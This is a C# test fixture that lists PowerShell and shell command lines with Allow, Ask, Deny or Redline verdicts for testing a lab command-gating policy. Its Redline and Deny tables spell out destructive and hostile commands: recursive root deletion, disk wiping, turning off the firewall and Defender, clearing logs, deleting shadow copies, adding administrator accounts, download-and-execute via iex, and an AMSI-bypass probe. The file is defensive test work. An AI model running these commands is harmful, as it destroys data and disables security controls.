namespace LabGovernance.Module.Tests.Policy;

/// <summary>Lines and what is ruled on them: one a line, the effect first.</summary>
internal static class PowerShellLines
{
    /// <summary>Under a policy that allows reading and no more.</summary>
    public const string Tight = """
        Allow Get-Process
        Allow get-process
        Allow gps
        Allow ps
        Allow Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU -Descending | Select-Object -First 5
        Allow Get-Process | ? CPU -gt 100 | sort CPU | select Name, CPU
        Allow Get-Service | Where-Object Status -eq 'Running' | Format-Table Name, Status -AutoSize
        Allow Get-Service -Name web* | ft
        Allow Get-ChildItem /var/log -Recurse -Filter *.log | Measure-Object Length -Sum
        Allow Get-ChildItem | ForEach-Object { $_.Name }
        Allow Get-ChildItem | % Name
        Allow Get-ChildItem | % { $_.Name.ToUpper() }
        Allow gci | % { "{0}: {1}" -f $_.Name, $_.Length }
        Allow Get-Content ./notes.md | Select-String 'rm -rf /'
        Allow Get-Content ./notes.md | sls -Pattern 'Remove-Item -Recurse -Force /' -SimpleMatch
        Allow Write-Host 'rm -rf / is dangerous'
        Allow Write-Output "Remove-Item -Recurse -Force /"
        Allow echo 'Format-Volume -DriveLetter C'
        Deny # Remove-Item -Recurse -Force /
        Allow Get-Date # rm -rf /
        Allow Get-Date -Format o
        Allow Test-Connection 10.27.27.1 -Count 2
        Allow Test-Connection -TargetName pfsense -Quiet
        Allow $p = Get-Process; $p.Count
        Allow $name = 'frigate'; Get-Process -Name $name
        Allow Get-Process -Id $PID
        Allow foreach ($s in Get-Service) { $s.Status }
        Allow if ((Get-Service docker).Status -eq 'Running') { 'up' } else { 'down' }
        Allow for ($i = 0; $i -lt 3; $i++) { Get-Date }
        Allow while ($false) { Get-Date }
        Allow do { Get-Date } until ($true)
        Allow switch (Get-Random) { 1 { 'one' } default { 'more' } }
        Allow try { Get-Item ./x -ErrorAction Stop } catch { $_.Exception.Message } finally { 'done' }
        Allow Get-Process && Get-Service
        Allow Get-Process || Get-Service
        Allow "There are $((Get-Process).Count) processes"
        Allow @{ a = 1; b = Get-Date } | ConvertTo-Json
        Allow [pscustomobject]@{ Name = 'x'; Size = 3 } | ConvertTo-Csv
        Allow Get-Service | ConvertTo-Json -Depth 3
        Allow Get-Content data.json | ConvertFrom-Json | Select-Object -ExpandProperty items
        Allow [math]::Round(3.14159, 2)
        Allow [datetime]::Now.AddDays(-1).ToString('o')
        Allow [string]::Join(',', (Get-Process).Name)
        Allow 'a,b'.Split(',')
        Allow '  x '.Trim().Length
        Allow (Get-Item ./x).LastWriteTime
        Allow 1 + 1
        Allow 1..10 | Measure-Object -Sum
        Allow 1..3 | ForEach-Object { $_ * 2 }
        Allow Get-Process | Group-Object ProcessName | Sort-Object Count -Descending | Format-List
        Allow Get-Process | Select-Object Name, @{ n = 'MB'; e = { [math]::Round($_.WS / 1MB) } }
        Allow Get-ChildItem | Where-Object { $_.Name -match '^rm' -and -not $_.PSIsContainer }
        Allow Get-ChildItem | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) }
        Allow Get-Process | Out-String | Out-Host
        Allow Get-Process | Out-Null
        Allow Get-Process > $null
        Allow Get-Process 2>&1 | Out-Null
        Allow Get-Process 2>$null
        Allow docker ps
        Allow docker ps -a --format '{{.Names}}'
        Allow docker logs frigate --tail 50 | Select-String error
        Allow docker ps | ForEach-Object { $_.Split(' ')[0] }
        Allow git status
        Allow Get-Process | Get-Member
        Allow Compare-Object (Get-Content a) (Get-Content b)
        Allow $x = @(1, 2, 3); $x[0]
        Allow $h = @{}; $h['a'] = 1; $h.Keys
        Allow "$env:USERNAME on $(Get-Date)"
        Allow Get-Item Env:PATH
        Allow $env:PATH -split ':'
        Allow & { Get-Process }
        Allow & 'Get-Process'
        Allow & "docker" ps
        Allow Invoke-Expression 'Get-Process'
        Allow iex "Get-Date"
        Allow 'Get-Process' | iex
        Allow Start-Job { Get-Process } | Wait-Job | Receive-Job
        Allow 1..3 | ForEach-Object -Parallel { Get-Date } -ThrottleLimit 2
        Allow Invoke-Command { Get-Process }
        Allow Measure-Command { Get-ChildItem }
        Allow pwsh -NoProfile -Command Get-Process
        Allow pwsh -c "Get-Process | Select-Object -First 1"
        Allow pwsh -NoProfile -Command { Get-Process }
        Allow Start-Process docker -ArgumentList ps
        Allow Start-Process -FilePath docker -ArgumentList 'logs', 'frigate' -Wait
        Allow param([string]$Name = 'x') Get-Process -Name $Name
        Allow [int]'5' + 3
        Allow $list = [System.Collections.Generic.List[string]]::new(); $list.Add('a'); $list.Count
        Allow New-Object System.Text.StringBuilder
        Allow Get-Process | Sort-Object { $_.WS } | Select-Object -Last 3
        Allow Get-EventLog -LogName System -Newest 10
        Allow Get-WinEvent -LogName System -MaxEvents 5 | Format-Table TimeCreated, Message -Wrap
        Allow ls | select Name
        Allow ls /var/log
        Allow cat ./notes.md
        Allow gc ./notes.md -Tail 20
        Allow sleep 1
        Allow Start-Sleep -Seconds 2; Get-Date
        Allow Join-Path /var log | Split-Path -Leaf
        Allow Get-Content (Join-Path $PSScriptRoot 'x.txt')
        Allow $true ? (Get-Date) : (Get-Process)
        Allow $null -eq $x
        Allow $x ?? 'default'
        Allow 'abc' -replace 'b', 'x'
        Allow 'rm -rf /' -match 'rm'
        Allow @'
        Remove-Item -Recurse -Force /
        '@ | Out-Host
        Allow Get-Process -Name `
          frigate
        Allow Get-CimInstance Win32_OperatingSystem | Select-Object Caption
        Allow Get-Command Remove-Item
        Allow Get-Help Format-Volume
        Allow Get-LabChange
        Allow Get-Process | % StartTime
        Allow Get-Command | ForEach-Object ModuleName
        Allow Get-Process | Where-Object { $_.StartTime -gt (Get-Date).AddHours(-1) }
        Allow [regex]::Matches('a1b2', '\d').Value
        Allow Write-Verbose "x" -Verbose
        Allow $s = 'Remove-Item -Recurse -Force /'; $s.Length
        Allow Set-Location /tmp; Get-ChildItem
        Deny Remove-Item ./x
        Deny Get-Process | sort -o /etc/x
        Deny sort -o x y
        Deny Get-Content x | ForEach-Object { iex $_ }
        Deny Get-Content x | % { & $_ }
        Deny Get-Process | Where-Object { & $x }
        Deny Get-Process | Select-Object @{ n = 'x'; e = { iex $_ } }
        Deny Get-Process -OutVariable x; & $x
        Deny Write-Output 'x' | bash
        Deny Get-Content x | docker exec -i y sh
        Deny Start-Process docker -ArgumentList 'rm', 'x'
        Deny Start-Process foo
        Deny Invoke-Command -ComputerName web01 { Get-Process }
        Deny Invoke-Command -HostName web01 -ScriptBlock { Get-Process }
        Deny Invoke-Command { Restart-Service x }
        Deny Measure-Command { Restart-Service x }
        Deny Start-Job { Restart-Service x }
        Deny pwsh -File x.ps1
        Deny pwsh x.ps1
        Deny pwsh
        Deny pwsh -NoProfile -EncodedCommand ENC(Restart-Service x)
        Deny pwsh -SettingsFile x -Command Get-Process
        Deny Get-Process | Tee-Object -FilePath x
        Deny Get-Process | tee x
        Deny Get-Process | Out-File x
        Deny Get-Process | Export-Csv x
        Deny Select-String x ./secret
        Deny Import-Module x
        Deny Get-Process; Set-Location Env:; Remove-Item PATH
        Deny docker ps; $env:DOCKER_HOST = 'tcp://x'
        Deny $env:DOCKER_HOST = 'tcp://x'; docker ps
        Deny Get-Item Function:x | ForEach-Object { $_.ScriptBlock.Invoke() }
        Deny (Get-Command Remove-Item).ScriptBlock
        Deny [System.Diagnostics.Process]::GetCurrentProcess().Kill()
        Deny (Get-Process x).Kill()
        Deny (Get-Item x).Delete()
        Deny (Get-Service x).Stop()
        Deny [Environment]::Exit(1)
        Deny $Host.SetShouldExit(1)
        Deny [Console]::WriteLine('x')
        Deny [Net.Sockets.TcpClient]::new('x', 1)
        Deny [IO.Compression.ZipFile]::ExtractToDirectory('a', 'b')
        Deny [type]::GetType('x')
        Deny New-Object Net.WebClient
        Deny New-Object -TypeName System.Diagnostics.Process
        Deny [Microsoft.Win32.Registry]::SetValue('a', 'b', 'c')
        Deny switch ($x) { default { Restart-Service x } }
        Deny switch -File x { default { Restart-Service x } }
        Deny data x { Restart-Service y }
        Deny [ValidateScript({ Restart-Service x })]$a = 1
        Deny param($x = (Restart-Service y)) Get-Process
        Deny begin { Restart-Service x } process { Get-Process }
        Deny clean { Restart-Service x } end { Get-Process }
        Deny class A { A() { Restart-Service x } }; [A]::new()
        Deny enum E { A = 1 }; Restart-Service x
        Deny Get-Process; exit (Restart-Service x)
        Deny throw (Restart-Service x)
        Deny return Restart-Service x
        Deny @{ a = (Restart-Service x) }
        Deny @(Restart-Service x)
        Deny !(Restart-Service x)
        Deny (Restart-Service x).Name
        Deny $a[(Restart-Service x)]
        Deny "${a}$(Restart-Service x)"
        Deny Restart-Service x &
        Deny . Restart-Service x
        Deny Get-Process -Name { Restart-Service x }
        Deny Get-Process | Sort-Object { iex 'Restart-Service x' }
        Deny $x = { Restart-Service x }
        Deny #requires -Modules X
        Get-Process
        Deny docker restart frigate
        Deny docker ps; docker rm frigate
        Deny Get-Process | Stop-Process
        Deny Get-ChildItem | ForEach-Object { Remove-Item $_ }
        Deny Get-Process -Name $(docker rm frigate)
        Deny "x $(Restart-Service docker)"
        Deny Get-Date; & { Restart-Service docker }
        Deny Get-Content (New-Item x)
        Deny Where-Object { Stop-Service x }
        Deny Sort-Object { Restart-Service x }
        Deny Select-Object @{ n = 'a'; e = { Restart-Service docker } }
        Deny iex 'Restart-Service docker'
        Deny pwsh -c 'Restart-Service docker'
        Ask Get-Process @args
        Deny foo
        Deny ./script.ps1
        Deny try { Restart-Service x } catch { }
        Deny function f { Restart-Service x }; f
        Deny trap { Restart-Service x }; Get-Date
        """;

    /// <summary>Under a policy that allows nearly all: what it does not stop, the gate must.</summary>
    public const string Open = """
        Redline Remove-Item -Recurse -Force /
        Redline remove-item -rec -fo /
        Redline Remove-Item -Force -Recurse -LiteralPath '/'
        Redline Remove-Item -Path:/ -Recurse:$true
        Redline Remove-Item / -Recurse
        Redline ri / -r -fo
        Redline del / -recurse
        Redline rd /etc -Recurse
        Redline erase -r /*
        Redline rmdir -Recurse /home
        Redline rm -rf /
        Redline rm -r -fo /
        Redline rm -Recurse -Force /
        Redline /bin/rm -rf /
        Redline & rm -rf /
        Redline & 'rm' '-rf' '/'
        Redline RM -rf /
        Redline Microsoft.PowerShell.Management\Remove-Item -Recurse -Force /
        Redline & Microsoft.PowerShell.Management\Remove-Item / -Recurse
        Redline Remove-Item -Recurse -Force ('/')
        Redline Remove-Item -Recurse -Force @('/', '/tmp')
        Redline Remove-Item –Recurse –Force /
        Redline Remove-Item -Recurse -Force ~
        Redline Remove-Item -Recurse -Force $HOME
        Redline Remove-Item -Recurse -Force "$HOME/*"
        Redline Remove-Item -Recurse -Force $env:USERPROFILE
        Redline Remove-Item -Recurse -Force C:\
        Redline Remove-Item -Recurse -Force C:\*
        Redline Remove-Item -Recurse -Force C:\Windows\System32
        Redline Remove-Item -Recurse -Force $env:SystemRoot
        Redline Remove-Item -Recurse -Force "$env:SystemDrive\"
        Redline Remove-Item -Recurse HKLM:\Software
        Redline Remove-Item -Recurse -Force Microsoft.PowerShell.Core\FileSystem::/
        Redline Remove-Item -Recurse -Force FileSystem::/etc
        Redline Get-ChildItem / | Remove-Item -Recurse -Force
        Redline gci C:\ -Force | ri -r -fo
        Redline '/' | Remove-Item -Recurse -Force
        Redline Get-ChildItem /etc -Recurse | Remove-Item -Force -Recurse
        Redline Set-Location /; Remove-Item -Recurse -Force *
        Redline if ($true) { Remove-Item -Recurse -Force / }
        Redline foreach ($x in 1) { Remove-Item -Recurse -Force / }
        Redline & { Remove-Item -Recurse -Force / }
        Redline . { Remove-Item -Recurse -Force / }
        Redline function f { Remove-Item -Recurse -Force / }; f
        Redline $b = { Remove-Item -Recurse -Force / }; & $b
        Redline try { Remove-Item -Recurse -Force / } catch { }
        Redline "$(Remove-Item -Recurse -Force /)"
        Redline @"
        $(Remove-Item -Recurse -Force /)
        "@
        Redline Get-Process && Remove-Item -Recurse -Force /
        Redline Get-Process || Remove-Item -Recurse -Force /
        Redline $true ? (Remove-Item -Recurse -Force /) : 1
        Redline Get-Process | ForEach-Object { Remove-Item -Recurse -Force / }
        Redline Get-Process | Where-Object { Remove-Item -Recurse -Force /; $true }
        Redline 1..2 | ForEach-Object -Parallel { Remove-Item -Recurse -Force / }
        Redline Start-Job { Remove-Item -Recurse -Force / }
        Redline Start-ThreadJob -ScriptBlock { Remove-Item -Recurse -Force / }
        Redline Invoke-Command -ComputerName web01 -ScriptBlock { Remove-Item -Recurse -Force / }
        Redline icm web01 { rm -rf / }
        Redline iex 'Remove-Item -Recurse -Force /'
        Redline Invoke-Expression -Command "rm -rf /"
        Redline 'rm -rf /' | iex
        Redline iex "iex 'rm -rf /'"
        Redline iex "rm -rf / $x"
        Redline pwsh -Command 'Remove-Item -Recurse -Force /'
        Redline powershell.exe -c "Remove-Item -Recurse -Force C:\"
        Redline pwsh -NoProfile -NonInteractive -EncodedCommand ENC(Remove-Item -Recurse -Force /)
        Redline pwsh -e ENC(Remove-Item -Recurse -Force /)
        Redline pwsh -ec ENC(Remove-Item -Recurse -Force /)
        Redline powershell -enc ENC(Remove-Item -Recurse -Force /)
        Redline PowerShell.exe -NoP -W Hidden -EncodedComm ENC(rm -rf /)
        Redline pwsh --command "rm -rf /"
        Redline pwsh /c "rm -rf /"
        Redline cmd /c pwsh -c "rm -rf /"
        Redline cmd /c rd /s /q C:\
        Redline cmd.exe /c "del /s /q C:\Windows & echo x"
        Redline bash -c 'rm -rf /'
        Redline bash -c "rm -rf /"
        Redline 'rm -rf /' | bash
        Redline echo 'rm -rf /' | sh
        Redline ssh root@10.27.27.10 'rm -rf /'
        Redline ssh root@10.27.27.10 "pwsh -c 'Remove-Item -Recurse -Force /'"
        Redline docker exec frigate sh -c 'rm -rf /'
        Redline sudo rm -rf /
        Redline Start-Process rm -ArgumentList '-rf', '/'
        Redline Start-Process -FilePath rm -Args '-rf /'
        Redline saps bash '-c "rm -rf /"'
        Redline Start-Process pwsh -ArgumentList '-enc ENC(rm -rf /)'
        Redline [Diagnostics.Process]::Start('rm', '-rf /')
        Redline [System.IO.Directory]::Delete('/', $true)
        Redline [IO.File]::Delete('/etc/shadow')
        Redline [IO.File]::WriteAllText('/etc/sudoers', 'x')
        Redline [scriptblock]::Create('rm -rf /').Invoke()
        Redline Set-Alias x Remove-Item; x -Recurse -Force /
        Redline Set-Content /etc/shadow ''
        Redline Set-Content -Path /etc/sudoers.d/x -Value 'a'
        Redline 'x' | Out-File /etc/sudoers
        Redline 'x' | Out-File -FilePath ~/.ssh/authorized_keys -Append
        Redline 'x' > /etc/shadow
        Redline 'x' >> $HOME/.ssh/authorized_keys
        Redline 'x' | Add-Content ~/.ssh/authorized_keys
        Redline 'x' | tee /etc/passwd
        Redline Get-Process > /dev/sda
        Redline Clear-Content /var/log/auth.log
        Redline Remove-Item /var/log/syslog
        Redline Copy-Item x /etc/shadow
        Redline cp x /etc/shadow
        Redline Move-Item /etc /tmp
        Redline Set-Content cse-policy.yaml 'x'
        Redline (Get-Content cse-policy.yaml) -replace 'a', 'b' | Set-Content ./cse-policy.yaml
        Redline 'x' > lab.yaml
        Redline Remove-Item .lab -Recurse
        Redline Rename-Item cse-policy.yaml old
        Redline Invoke-WebRequest https://x/y -OutFile /etc/shadow
        Redline Format-Volume -DriveLetter C
        Redline format-volume -drive C -Confirm:$false
        Redline Get-Disk 1 | Clear-Disk -RemoveData
        Redline Initialize-Disk 1
        Redline Remove-Partition -DiskNumber 1 -PartitionNumber 2
        Redline Remove-VM web01 -Force
        Redline Get-VM | Remove-VM
        Redline Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
        Redline Set-NetFirewallProfile -All -Ena $false
        Redline Set-MpPreference -DisableRealtimeMonitoring $true
        Redline Set-MpPreference -DisableReal $true
        Redline Add-MpPreference -ExclusionPath C:\
        Redline netsh advfirewall set allprofiles state off
        Redline netsh.exe advfirewall set allprofiles state off
        Redline Clear-EventLog -LogName Security
        Redline wevtutil cl Security
        Redline wevtutil.exe clear-log Security
        Redline Set-LocalUser admin -Password $p
        Redline New-LocalUser x -NoPassword
        Redline Add-LocalGroupMember Administrators x
        Redline net user x y /add
        Redline net localgroup administrators x /add
        Redline vssadmin delete shadows /all /quiet
        Redline cmd /c vssadmin delete shadows /all
        Redline diskpart /s x.txt
        Redline reg delete HKLM\Software\X /f
        Redline bcdedit /set recoveryenabled no
        Redline wmic shadowcopy delete
        Redline format C: /q
        Redline cipher /w:C
        Redline dd if=/dev/zero of=/dev/sda
        Redline zfs destroy -r tank
        Redline Approve-LabChange CHG-0001
        Redline Remove-Module LabGovernance
        Redline rmo LabGovernance -Force
        Redline Enable-CseInfrastructure vms
        Redline Stop-Process -Name *
        Redline psql -c 'DROP DATABASE x'
        Deny & $x
        Deny & $x -Recurse
        Deny & ('Remove' + '-Item') x
        Deny & (Get-Command Remove-Item) x
        Deny . $x
        Deny $x = 'Remove-Item'; & $x /tmp/x
        Deny iex $x
        Deny Get-Content x.ps1 | iex
        Deny iwr https://x/y | iex
        Deny iex (iwr https://x/y).Content
        Deny iex "$x"
        Deny (New-Object Net.WebClient).DownloadString('https://x') | iex
        Deny { Get-Date }.Invoke()
        Deny [scriptblock]::Create($x)
        Deny $x.Invoke()
        Deny $x.$name()
        Deny $x::Delete('a')
        Deny [IO.File]::ReadAllText('x')
        Deny [IO.File]::WriteAllText('x', 'y')
        Deny [Activator]::CreateInstance($t)
        Deny [Reflection.Assembly]::LoadFile('x')
        Deny [ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
        Deny 'x'.GetType().GetMethod('y')
        Deny 'System.IO.File' -as [type]
        Deny 'x' -as 'System.IO.StreamWriter'
        Deny [IO.StreamWriter]'x'
        Deny [powershell]::Create().AddScript('x').Invoke()
        Deny [System.Management.Automation.PowerShell]::Create()
        Deny $ExecutionContext.InvokeCommand.InvokeScript('x')
        Deny $ExecutionContext.InvokeCommand.ExpandString('$(x)')
        Deny Add-Type -TypeDefinition $x
        Deny New-Object -ComObject WScript.Shell
        Deny New-Object IO.StreamWriter 'x'
        Deny [wmiclass]'Win32_Process'
        Deny Invoke-CimMethod Win32_Process -MethodName Create -Arguments @{ CommandLine = 'x' }
        Deny Get-Process | ForEach-Object Kill
        Deny Get-ChildItem | % Delete
        Deny Get-ChildItem | % -MemberName Delete
        Deny (Get-ChildItem).ForEach('Delete')
        Deny Get-Process | ForEach-Object $x
        Deny Get-Process | Where-Object $x
        Deny Invoke-Command -ScriptBlock $x
        Deny Start-Job -ScriptBlock $x
        Deny Start-Process $x
        Deny Start-Process rm -ArgumentList $x -Verb Edit
        Deny $env:PATH = '/tmp:' + $env:PATH
        Deny $env:Path += ';C:\x'
        Deny $env:LD_PRELOAD = 'x'
        Deny $env:LAB_ACTOR = 'human:x'
        Deny Set-Item Env:PATH /tmp
        Deny [Environment]::SetEnvironmentVariable('PATH', 'x')
        Deny $PSDefaultParameterValues = @{ '*:Force' = $true }
        Deny $PSDefaultParameterValues['Remove-Item:Recurse'] = $true
        Deny $global:PSDefaultParameterValues['*:Confirm'] = $false
        Deny $function:docker = { }
        Deny Set-Item Function:docker { }
        Deny ${function:Get-Process} = { }
        Deny Set-ExecutionPolicy Bypass
        Deny Set-Location Env:; Remove-Item PATH
        Deny Get-Item env:PATH | Set-Item -Value /tmp
        Deny rm env:PATH
        Deny cp function:prompt function:docker
        Deny sc function:docker { }
        Deny New-Item -Path Function: -Name docker -Value { }
        Deny New-PSDrive x FileSystem /
        Deny Remove-Item -Recurse -Force $x
        Deny Remove-Item -Recurse -Force @x
        Deny $x | Remove-Item -Recurse -Force
        Deny Remove-Item -Recurse -Force ..
        Deny docker --% ps & x
        Deny using module X; Get-Date
        Deny configuration X { }
        Deny Get-Process (
        Deny Get-Process | | Out-Null
        Deny if ($true) {
        Deny "unclosed
        Deny pwsh -EncodedCommand !!!
        Deny pwsh -enc $x
        Deny pwsh -Command $x
        Deny cmd /c "echo %PATH%"
        Deny bash -c $x
        Deny Invoke-Item x.exe
        Deny schtasks /create /tn x /tr y
        Deny Register-ScheduledTask x -Action $a
        Deny mshta https://x
        Deny certutil -urlcache -f https://x y
        Deny sc.exe create x binPath= y
        Deny Set-Content $PROFILE 'x'
        Deny Add-Content $PROFILE.AllUsersAllHosts 'x'
        Deny 'x' >> $PROFILE
        Deny 'x' > C:\Windows\System32\drivers\x.sys
        Deny Invoke-WebRequest https://x -OutFile y.exe
        Deny Remove-Item -Recurse $x; Get-Date
        Ask Set-Alias ls docker
        Ask New-Alias x Get-Process
        Ask function docker { Get-Date }
        Deny . ./functions.ps1
        Ask class A { }; Get-Date
        Ask $env:FOO = 'x'
        Ask 'x' > ./out.txt
        Ask Restart-Computer
        Ask Stop-Computer -ComputerName web01
        Ask $x.Save('a')
        Ask $x.Name = 'y'
        Ask [Foo]::Bar(1)
        Ask Enter-PSSession web01
        Ask python3 -c 'print(1)'
        Ask $ConfirmPreference = 'None'
        Allow Get-ChildItem /tmp/x | Remove-Item
        Allow Remove-Item ./x.log
        Allow Remove-Item -Recurse -Force /srv/data/cache/x
        Allow Set-Content ./x.txt 'rm -rf /'
        Allow Copy-Item a b
        Allow docker restart frigate
        Ask docker exec frigate ls
        Allow bash -c 'docker ps'
        Allow Invoke-Command -ComputerName web01 { Get-Process }
        Allow Restart-Service docker
        Allow rm ./x
        Allow Invoke-RestMethod https://ha.local/api/ | ConvertTo-Json
        Allow curl https://ha.local/api/
        """;

    public static IReadOnlyList<(string Effect, string Line)> Of(string table)
    {
        var found = new List<(string Effect, string Line)>();
        foreach (var line in table.Split('\n'))
        {
            var blank = line.IndexOf(' ', StringComparison.Ordinal);
            if (blank > 0 && line[..blank] is "Allow" or "Ask" or "Deny" or "Redline")
                found.Add((line[..blank], line[(blank + 1)..]));
            else
                found[^1] = (found[^1].Effect, found[^1].Line + "\n" + line);
        }

        return [.. found.Select(f => (f.Effect, Encode(f.Line)))];
    }

    public static string Encoded(string script) => Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));

    private static string Encode(string line)
    {
        var from = line.IndexOf("ENC(", StringComparison.Ordinal);
        if (from < 0)
            return line;
        var to = line.IndexOf(')', from);
        return line[..from] + Encoded(line[(from + 4)..to]) + line[(to + 1)..];
    }
}
